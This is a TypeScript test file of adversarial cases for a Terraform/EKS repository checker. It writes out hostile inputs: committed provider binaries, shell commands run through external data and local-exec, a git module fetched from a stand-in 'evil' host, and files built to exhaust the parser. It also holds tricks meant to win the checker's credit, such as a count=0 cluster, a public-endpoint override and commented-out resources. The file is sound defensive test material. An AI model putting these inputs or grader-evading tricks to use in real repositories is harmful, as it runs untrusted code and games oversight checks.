import type { FileCase } from './case.ts';
import { eks, elf } from './material.ts';

const provider = `${eks}/.terraform/providers/registry.terraform.io/hashicorp/aws/6.60.0/linux_amd64/terraform-provider-aws_v6.60.0`;
const plugin = `${eks}/terraform.d/plugins/registry.terraform.io/evil/evil/1.0.0/linux_amd64/terraform-provider-evil_v1.0.0`;
const nothingIgnored = { '.gitignore': { edits: [['.terraform/\n', '']] } } as const;
const also = (name: string, text: string) => ({ [`${eks}/${name}.tf`]: { text } }) as const;

export const T: readonly FileCase[] = [
  {
    id: 'T01',
    tried: 'a committed folder .terraform with a program in it',
    must: 'refused',
    changes: { ...nothingIgnored, [provider]: { bytes: elf } },
    loses: [
      { check: 'terraform-state-safe', at: 'assets/eks/.terraform/providers/registry.terraform.io/hashicorp/aws/6.60.0/linux_amd64/terraform-provider-aws_v6.60.0', observed: '`assets/eks/.terraform` is committed' },
    ],
    twin: { is: 'the lock file of an honest init', changes: nothingIgnored },
  },
  {
    id: 'T02',
    tried: 'a committed plugin in terraform.d',
    must: 'refused',
    changes: { [plugin]: { bytes: elf } },
    loses: [
      { check: 'terraform-state-safe', at: 'assets/eks/terraform.d/plugins/registry.terraform.io/evil/evil/1.0.0/linux_amd64/terraform-provider-evil_v1.0.0', observed: '`assets/eks/terraform.d/plugins` is committed' },
    ],
    twin: { is: 'a text in terraform.d', changes: { [`${eks}/terraform.d/README.md`]: { text: 'Nothing is kept here.\n' } } },
  },
  {
    id: 'T03',
    tried: 'programs by external data, local-exec and a remote module',
    must: 'neutralised',
    changes: also('t03d', 'data "external" "run" {\n  program = ["sh", "-c", "touch pwned; echo {}"]\n}\n\nresource "terraform_data" "run" {\n  provisioner "local-exec" {\n    command = "touch pwned"\n  }\n}\n'),
    loses: [
      { check: 'terraform-versions-pinned', at: 'assets/eks/t03d.tf:1', observed: '`assets/eks` sets no version of `hashicorp/external` and locks no `hashicorp/external`' },
    ],
    twin: { is: 'data that runs nothing', changes: also('t03d', 'resource "terraform_data" "kept" {\n  input = "docc"\n}\n') },
  },
  {
    id: 'T04',
    tried: 'a module of git and another state’s address',
    must: 'neutralised',
    changes: also('t04e', 'module "evil" {\n  source = "git::http://127.0.0.1:9/evil.git?ref=v1"\n}\n\ndata "terraform_remote_state" "evil" {\n  backend = "http"\n\n  config = {\n    address = "http://127.0.0.1:9/state"\n  }\n}\n'),
    loses: [],
    twin: { is: 'a module of the registry, pinned', changes: also('t04e', 'module "naming" {\n  source  = "cloudposse/label/null"\n  version = "0.25.0"\n}\n') },
  },
  {
    id: 'T05',
    tried: 'a file of ten thousand parentheses',
    must: 'capped',
    changes: also('t05f', `locals {\n  deep = ${'('.repeat(10_000)}1${')'.repeat(10_000)}\n}\n`),
    loses: [
      { check: 'terraform-parses', at: 'assets/eks/t05f.tf:2', observed: 'This is nested too deeply to be read' },
    ],
    twin: { is: 'a nested expression', changes: also('t05f', 'locals {\n  deep = ((((1 + 1))))\n}\n') },
  },
  {
    id: 'T05',
    tried: 'a file of 50 MB',
    must: 'capped',
    changes: { [`${eks}/t05g.tf`]: { bytes: Buffer.alloc(50 * 1024 * 1024 + 1, '# padding, and more of it\n') } },
    loses: [
      { check: 'terraform-parses', at: 'assets/eks/t05g.tf', observed: 'It is 52428801 bytes, past what is left of 52428800 for all files together' },
    ],
    refused: [['too-many-bytes', 'assets/eks/t05g.tf']],
    twin: { is: 'a file with a long comment', changes: also('t05g', '# said at length\n'.repeat(2_000)) },
  },
  {
    id: 'T05',
    tried: 'a text that doubles forty times',
    must: 'capped',
    changes: also('t05h', `locals {\n${Array.from({ length: 40 }, (_, n) => `  x${n + 10} = "\${local.x${n + 11}}\${local.x${n + 11}}"\n`).join('')}  x50 = "ha"\n}\n`),
    names: ['This text is longer than docc reads'],
    loses: [],
    twin: { is: 'a text made of others', changes: also('t05h', 'locals {\n  one = "docc"\n  two = "${local.one}-${local.one}"\n}\n') },
  },
  {
    id: 'T06',
    tried: 'a cluster that is counted away',
    must: 'uncredited',
    changes: { [`${eks}/cluster.tf`]: { edits: [['resource "aws_eks_cluster" "this" {\n', 'resource "aws_eks_cluster" "this" {\n  count = 0\n\n']] } },
    loses: [
      { check: 'eks-cluster-declared', at: 'assets/eks/cluster.tf:1', observed: '`aws_eks_cluster.this` is switched off: its `count` comes to 0' },
    ],
    twin: { is: 'something else that is counted away', changes: also('t06i', 'resource "terraform_data" "bastion" {\n  count = 0\n}\n') },
  },
  {
    id: 'T06',
    tried: 'an endpoint that an override file opens',
    must: 'uncredited',
    changes: { [`${eks}/override.tf`]: { text: 'resource "aws_eks_cluster" "this" {\n  vpc_config {\n    subnet_ids              = module.network.private_subnet_ids\n    endpoint_private_access = true\n    endpoint_public_access  = true\n    public_access_cidrs     = ["0.0.0.0/0"]\n  }\n}\n' } },
    loses: [
      { check: 'eks-endpoint-restricted', at: 'assets/eks/override.tf:6', observed: '`aws_eks_cluster.this` answers the whole internet' },
    ],
    twin: { is: 'an override file that overrides nothing judged', changes: { [`${eks}/override.tf`]: { text: 'resource "aws_eks_cluster" "this" {\n  deletion_protection = false\n}\n' } } },
  },
  {
    id: 'T06',
    tried: 'a cluster in a comment alone',
    must: 'uncredited',
    changes: { [`${eks}/nodes.tf`]: 'gone', [`${eks}/t06k.tf`]: { text: '# resource "aws_eks_node_group" "this" {\n/*\nresource "aws_eks_node_group" "this" {\n  cluster_name = "docc"\n}\n*/\n' } },
    loses: [
      { check: 'eks-compute-declared', at: 'assets/eks/cluster.tf:1', observed: '`aws_eks_cluster.this` has no nodes, no Fargate profile, no Auto Mode and no Karpenter' },
      { check: 'terraform-parses', at: 'assets/eks/addons.tf:35', observed: 'aws_eks_node_group.this is not declared' },
    ],
    twin: { is: 'a resource in a comment beside the real ones', changes: also('t06k', '# resource "aws_eks_cluster" "old" {}\n') },
  },
];
